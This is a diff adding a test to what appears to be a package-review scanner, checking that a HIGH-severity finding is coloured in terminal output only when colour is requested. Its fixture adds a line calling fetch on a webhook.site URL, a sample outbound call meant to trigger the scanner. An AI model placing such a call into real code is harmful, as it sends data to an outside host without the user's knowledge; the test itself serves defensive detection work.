@@ -127,6 +127,18 @@ findings: 1 critical, 0 high, 1 medium, 0 low
     );
   });
 
+  it("colours severities only when asked", () => {
+    const r = review(
+      snap("1", { "a.js": "1;\n" }),
+      snap("2", { "a.js": '1;\nfetch("https://webhook.site/x");\n' }),
+      {
+        limits: withLimits(),
+      },
+    );
+    assert.match(renderTerminal(r, { color: true }), /\x1b\[35mHIGH\x1b\[0m/);
+    assert.ok(!renderTerminal(r, { color: false }).includes("\x1b"));
+  });
+
   it("neutralises terminal escape sequences from package content", () => {
     const r = review(
       snap("1", { "a.js": "1;\n" }),
